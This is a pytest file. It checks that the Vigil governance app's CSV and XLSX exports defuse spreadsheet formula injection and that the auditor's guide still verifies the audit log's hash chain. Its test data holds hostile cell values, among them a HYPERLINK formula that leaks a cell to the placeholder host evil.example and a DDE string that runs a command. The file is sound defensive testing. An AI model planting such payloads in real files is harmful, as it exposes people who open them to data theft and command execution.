"""No file Vigil hands out runs a formula when a person opens it (OWASP, CSV injection): a hostile model name, actor
or comment comes out of every CSV with an apostrophe in front and out of the XLSX as a text cell, numbers stay
numbers, and the auditor's documented procedure undoes the protection and still checks the audit log's chain."""

import csv
import io
import re
import subprocess
import sys
from pathlib import Path

import pytest
from django.conf import settings
from django.utils import timezone

from governance.core import cells
from governance.core.audit import audit_record
from governance.core.models import AuditEvent
from models_registry import services as registry
from tests.exports.packs import download_pack, request_pack
from tests.factories import UserFactory

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE_REASON = "+cmd|' /C calc'!A0"
TEXTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "'", "-", "=", "- a note"]
NUMBERS = ["-0.25", "+3", "-1e-05", "12", ".5", "-7."]
PLAIN = ["", "alpha", "1.0", "a=b", " =1", "HYPERLINK"]


@pytest.mark.parametrize("text", TEXTS)
def test_text_a_spreadsheet_could_run_gets_an_apostrophe_that_undo_removes(text):
    assert cells.neutralised(text) == "'" + text
    assert cells.undo(cells.neutralised(text)) == text


@pytest.mark.parametrize("value", [*NUMBERS, *PLAIN, -2.5, -1, 0, None, True])
def test_numbers_and_plain_text_are_left_alone(value):
    assert cells.neutralised(value) is value
    if isinstance(value, str):
        assert cells.undo(cells.neutralised(value)) == value


def test_the_csv_writer_neutralises_text_only():
    out = io.StringIO()
    cells.writer(out).writerow([HOSTILE_NAME, -2.5, "-2.5", "'quoted", 3])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + HOSTILE_NAME, "-2.5", "-2.5", "''quoted", "3"]


def _hostile_world(world):
    """The model `mine` renamed to a formula, by a comment that is one too."""
    registry.model_update(world.compliance, world.mine, name=HOSTILE_NAME, reason=HOSTILE_REASON)


def _download(api, user, export) -> bytes:
    answer = api.as_user(user).get(f"/api/v1/exports/{export.pk}/download/")
    assert answer.status_code == 200
    return b"".join(answer.streaming_content)


@pytest.mark.django_db
def test_the_inventory_csv_and_xlsx_show_a_formula_name_as_text(world, api):
    from openpyxl import load_workbook

    _hostile_world(world)
    rows = list(csv.DictReader(io.StringIO(_download(api, world.compliance, _inventory(api, world, "csv")).decode())))
    assert next(r for r in rows if r["Model key"] == "mine")["Name"] == "'" + HOSTILE_NAME
    content = _download(api, world.compliance, _inventory(api, world, "xlsx"))
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cell = next(row[1] for row in sheet.iter_rows() if row[0].value == "mine")
    assert cell.value == HOSTILE_NAME and cell.data_type == "s" and cell.quotePrefix
    assert b"<f>" not in _sheet_xml(content), "no cell of the workbook is a formula"


def _inventory(api, world, fmt):
    return request_pack(api, world.compliance, kind="inventory", format=fmt)


def _sheet_xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return b"".join(book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/"))


@pytest.mark.django_db
def test_the_rts6_pack_records_show_a_formula_name_as_text(world, api, tmp_path):
    _hostile_world(world)
    export = request_pack(api, world.compliance, kind="rts6_self_assessment", year=timezone.now().year)
    bag = download_pack(api, world.compliance, export, tmp_path)
    with (bag / "data" / "records" / "models.csv").open(newline="") as handle:
        models = {row["key"]: row for row in csv.DictReader(handle)}
    assert models["mine"]["name"] == "'" + HOSTILE_NAME
    assert models["mine"]["validations"].isdigit(), "numbers stay numbers"


def guide_procedure() -> str:
    """The Python of the auditor's guide that checks an audit log CSV (section 2), as printed there."""
    guide = (Path(settings.BASE_DIR) / "docs" / "auditors-guide.md").read_text()
    section = guide[guide.index("## 2. The audit log's hash chain") : guide.index("## 3.")]
    (code,) = re.findall(r"```python\n(.*?)```", section, flags=re.S)
    return code


@pytest.mark.django_db
def test_the_audit_log_csv_is_neutralised_and_the_guide_still_checks_its_chain(world, api, tmp_path):
    hostile = UserFactory(username="-2+3", first_name="", last_name="")
    _hostile_world(world)
    changes = {"note": [None, "=1+1"]}
    audit_record(hostile, "test.formula", world.mine, changes=changes, reason="@risk", object_repr="-x")
    export = request_pack(api, world.compliance, kind="audit_log", since="2000-01-01", until="2199-01-01")
    content = _download(api, world.compliance, export)
    rows = list(csv.DictReader(io.StringIO(content.decode())))
    written = next(r for r in rows if r["action"] == "test.formula")
    assert (written["actor"], written["reason"], written["object_repr"]) == ("'-2+3", "'@risk", "'-x")
    renamed = next(r for r in rows if r["action"] == "model.update")
    assert renamed["reason"] == "'" + HOSTILE_REASON
    # The guide's procedure, as printed, on this file: it undoes the protection and finds every link.
    path = tmp_path / "audit.csv"
    path.write_bytes(content)
    code = guide_procedure().replace("vigil-audit-log-20261129-101500.csv", str(path))
    code += "\nimport json; print(json.dumps(rows))\n"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[0] == f"{len(rows)} events, each linked to the one before"
    import json

    recorded = {int(r["id"]): r for r in json.loads(lines[1])}
    for event in AuditEvent.objects.filter(pk__in=recorded):
        row = recorded[event.pk]
        assert (row["actor"], row["reason"], row["object_repr"]) == (
            event.actor_username,
            event.reason,
            event.object_repr,
        )
